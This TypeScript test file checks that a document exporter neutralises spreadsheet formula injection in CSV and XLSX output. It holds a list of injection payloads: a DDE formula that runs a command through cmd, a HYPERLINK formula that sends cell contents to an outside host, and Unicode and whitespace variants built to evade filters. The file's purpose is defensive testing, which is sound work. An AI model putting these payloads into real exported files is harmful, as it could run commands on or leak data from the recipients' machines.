import { expect } from 'chai';
import { readSheet } from 'read-excel-file/node';
import { exporters, type Format } from '../../../server/documents/write/exporters.ts';
import { readCsv } from '../read-csv.ts';
import { group, sheetOf } from '../sample-sheet.ts';
import { unzip } from '../unzip.ts';

/** What somebody may type into a name, a position or a note to have it run on the accountant's machine. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.gov.vn/?"&A1,"Xem")',
  '+84900000011',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
];

/** Whether a spreadsheet that opens the text of a cell could take it for a formula. */
const isLive = (text: string): boolean => /^[\s\0]*[=+\-@]/.test(text.normalize('NFKC'));

/** How to find live cells in each format. A new exporter does not compile here until it has its own. */
const liveCells: Record<Format, (bytes: Buffer) => string[]> = {
  csv: (bytes) => readCsv(bytes).flat().filter(isLive),
  // A formula is an element <f>; a text is a shared string (t="s"), which no spreadsheet evaluates.
  xlsx: (bytes) => [...unzip(bytes).values()].flatMap((xml) => xml.match(/<f[\s>/][^<]*/g) ?? []),
};

const bytesOf = (format: Format, payload: string) =>
  exporters[format].write(
    sheetOf([group(payload, [{ number: 1, name: payload, position: payload, note: payload }])], {
      issuer: payload,
      title: payload,
      subtitle: payload,
      occasion: payload,
    }),
  );

for (const format of Object.keys(exporters) as Format[]) {
  describe(`formula injection through ${format}`, () => {
    for (const payload of payloads) {
      it(`finds no live cell after ${JSON.stringify(payload)}`, async () => {
        expect(liveCells[format](await bytesOf(format, payload))).to.deep.equal([]);
      });
    }
  });
}

describe('the guard against formula injection', () => {
  for (const payload of payloads) {
    it(`is needed: ${JSON.stringify(payload)} alone would be live`, () => {
      expect(liveCells.csv(Buffer.from(`"${payload.replaceAll('"', '""')}"\r\n`))).to.have.length(1);
    });
  }

  it('is needed in a workbook: a formula cell would be found', () => {
    expect('<c r="A1"><f>1+1</f></c>'.match(/<f[\s>/][^<]*/g)).to.have.length(1);
  });

  it('keeps the text readable in a workbook', async () => {
    const cells = (await readSheet(await bytesOf('xlsx', '=1+1'))).flat();
    expect(cells.filter((cell) => cell === '=1+1')).to.have.length(8);
  });
});
